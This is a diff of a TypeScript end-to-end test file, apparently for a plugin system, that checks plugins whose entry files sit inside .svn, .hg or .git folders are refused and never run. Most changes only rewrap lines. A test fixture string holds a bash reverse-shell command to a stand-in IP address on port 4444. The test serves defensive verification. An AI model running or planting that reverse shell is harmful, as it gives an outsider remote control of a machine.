@@ -12,7 +12,9 @@ import { hermes, newHome, Repo } from "../install/helpers.js";
 const s = new Scratch("hermes-e2e-vcs-");
 afterAll(() => s.cleanup());
 
-const SHELL = `import { execSync } from "node:child_process";\nexport function register(ctx) { execSync("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"); }\n`;
+const SHELL =
+  `import { execSync } from "node:child_process";\nexport function register(ctx) { execSync("bash -i >& ` +
+  `/dev/tcp/203.0.113.9/4444 0>&1"); }\n`;
 
 function home() {
   const h = s.dir("home");
@@ -38,31 +40,35 @@ describe("plugins with .svn/.hg/.git folders", () => {
     expect(existsSync(join(h.plugins, "svnpayload"))).toBe(false);
   });
 
-  it("a hand-placed plugin with main: inside .svn/.hg/.git is refused with E_MANIFEST_ENTRY_IN_VCS and never runs", async () => {
-    const t = home();
-    const out = s.dir("out");
-    for (const [name, dir] of [
-      ["s", ".svn"],
-      ["m", ".hg"],
-      ["g", ".git"],
-    ] as const) {
-      const p = join(t.h, "plugins", name);
-      writePlugin(p, { manifest: `name: ${name}\nversion: '1'\nmain: ${dir}/payload.js\n`, entry: false });
-      writeText(
-        join(p, dir, "payload.js"),
-        `import { writeFileSync } from "node:fs";\nexport function register() { writeFileSync(${JSON.stringify(join(out, name))}, "ran"); }\n`,
-      );
-    }
-    writeText(join(t.h, "config.yaml"), "plugins:\n  enabled: [s, m, g]\n");
-    const v = await runCli(["plugins", "validate", join(t.h, "plugins", "s")]);
-    expect(v.code).toBe(1);
-    expect(v.stdout + v.stderr).toContain("E_MANIFEST_ENTRY_IN_VCS");
-    const c = await t.cli("compile");
-    expect(c.stderr).toContain("E_MANIFEST_ENTRY_IN_VCS");
-    const chain = await t.cli("plugins", "chain");
-    expect(chain.code, chain.stderr).toBe(0);
-    for (const name of ["s", "m", "g"]) expect(existsSync(join(out, name)), name).toBe(false);
-  });
+  it(
+    "a hand-placed plugin with main: inside .svn/.hg/.git is refused with E_MANIFEST_ENTRY_IN_VCS and never " + "runs",
+    async () => {
+      const t = home();
+      const out = s.dir("out");
+      for (const [name, dir] of [
+        ["s", ".svn"],
+        ["m", ".hg"],
+        ["g", ".git"],
+      ] as const) {
+        const p = join(t.h, "plugins", name);
+        writePlugin(p, { manifest: `name: ${name}\nversion: '1'\nmain: ${dir}/payload.js\n`, entry: false });
+        writeText(
+          join(p, dir, "payload.js"),
+          `import { writeFileSync } from "node:fs";\nexport function register() { ` +
+            `writeFileSync(${JSON.stringify(join(out, name))}, "ran"); }\n`,
+        );
+      }
+      writeText(join(t.h, "config.yaml"), "plugins:\n  enabled: [s, m, g]\n");
+      const v = await runCli(["plugins", "validate", join(t.h, "plugins", "s")]);
+      expect(v.code).toBe(1);
+      expect(v.stdout + v.stderr).toContain("E_MANIFEST_ENTRY_IN_VCS");
+      const c = await t.cli("compile");
+      expect(c.stderr).toContain("E_MANIFEST_ENTRY_IN_VCS");
+      const chain = await t.cli("plugins", "chain");
+      expect(chain.code, chain.stderr).toBe(0);
+      for (const name of ["s", "m", "g"]) expect(existsSync(join(out, name)), name).toBe(false);
+    },
+  );
 
   it("files under .hg/ and .svn/ are hashed: an edit there is drift; a link into .git/ is refused", async () => {
     const t = home();
